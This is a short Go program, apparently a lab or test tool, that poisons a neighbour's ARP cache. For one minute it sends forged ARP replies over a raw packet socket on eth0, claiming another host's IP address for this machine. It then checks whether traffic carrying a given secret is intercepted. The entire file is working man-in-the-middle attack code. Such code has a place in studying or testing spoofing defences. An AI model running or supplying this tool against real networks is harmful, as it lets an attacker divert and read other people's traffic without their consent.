// Arp tells a neighbour for a minute that this machine has an address that is another's, and says whether something
// came here that was not meant for it.
//
//	arp ADDRESS NEIGHBOUR-MAC NEIGHBOUR-ADDRESS SECRET
package main

import (
	"bytes"
	"fmt"
	"net"
	"net/netip"
	"os"
	"slices"
	"syscall"
	"time"
)

func main() {
	if err := run(os.Args[1], os.Args[2], os.Args[3], []byte(os.Args[4])); err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
}

func run(claimed, mac, neighbour string, secret []byte) error {
	to, err := net.ParseMAC(mac)
	if err != nil {
		return err
	}
	own, err := net.InterfaceByName("eth0")
	if err != nil {
		return err
	}
	socket, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, bigEndian(syscall.ETH_P_ALL))
	if err != nil {
		return err
	}
	claim, target := netip.MustParseAddr(claimed).As4(), netip.MustParseAddr(neighbour).As4()
	const reply = "\x08\x06" + "\x00\x01" + "\x08\x00" + "\x06\x04" + "\x00\x02"
	frame := slices.Concat(to, own.HardwareAddr, []byte(reply), own.HardwareAddr, claim[:], to, target[:])
	address := &syscall.SockaddrLinklayer{Ifindex: own.Index, Protocol: uint16(bigEndian(syscall.ETH_P_ARP))}
	pause := syscall.Timeval{Usec: 20_000}
	if err := syscall.SetsockoptTimeval(socket, syscall.SOL_SOCKET, syscall.SO_RCVTIMEO, &pause); err != nil {
		return err
	}
	buf := make([]byte, 64<<10)
	for end := time.Now().Add(time.Minute); time.Now().Before(end); {
		if err := syscall.Sendto(socket, frame, 0, address); err != nil {
			return err
		}
		n, _, err := syscall.Recvfrom(socket, buf, 0)
		if err == nil && bytes.Contains(buf[:n], secret) {
			fmt.Println("intercepted")
			return nil
		}
	}
	fmt.Println("nothing came")
	return nil
}

func bigEndian(n uint16) int { return int(n<<8 | n>>8) }
